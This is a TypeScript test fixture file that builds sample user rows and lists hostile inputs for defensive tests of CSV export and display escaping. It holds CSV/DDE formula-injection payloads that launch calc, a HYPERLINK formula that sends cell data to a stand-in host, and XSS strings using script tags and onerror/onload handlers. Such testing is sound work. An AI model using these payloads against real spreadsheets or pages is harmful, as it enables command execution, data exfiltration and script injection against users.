/**
 * Test fixtures: server rows and the hostile corpus (CSV injection payloads and hostile strings)
 * shared by the unit tests and the HostileStrings story.
 */
import type { ServerUserRow } from './types';

/** A GET /usuarios row with defaults. */
export function serverRow(overrides: Partial<ServerUserRow> & Pick<ServerUserRow, 'iD_USUARIO'>): ServerUserRow {
  return {
    dsC_EMAIL: `user${overrides.iD_USUARIO}@conecta.example`,
    dsC_NOME_USUARIO: `Usuário ${overrides.iD_USUARIO}`,
    iD_USUARIO_TIPO: 3,
    iD_USUARIO_FUNCAO: 12,
    dsC_SENHA: '********',
    inD_ALTERA_IMAGEM: false,
    iD_EMPREGADO_FLEXX: null,
    imG_PERFIL: null,
    iD_PUXADA: 10234,
    dsC_FUNCAO: 'Vendedor',
    dsC_TIPO: 'Broker',
    dsC_APELIDO: 'HORIZONTE',
    inD_USUARIO_INATIVO: '0',
    ...overrides,
  };
}

/** CSV-injection payloads (OWASP) and separator/quote cases. */
export const INJECTION_PAYLOADS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Clique aqui")',
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'nome\tcom tab',
  'linha1\r\nlinha2',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '"=1+2";=1+2',
  'a;b;c',
  'diz "olá"',
];

/** Hostile display strings: markup, event handlers, quotes, RTL marks, emoji, a 10,000-character value. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<script>window.__pwned = true</script>',
  '<img src=x onerror="window.__pwned = true">',
  '"><svg onload=alert(1)>',
  "O'Brien \"Aspas\"",
  '\u202Eodnanref\u202C Mendes',
  'Ana 😀👩🏽‍💻 Souza',
  'x'.repeat(10_000),
];
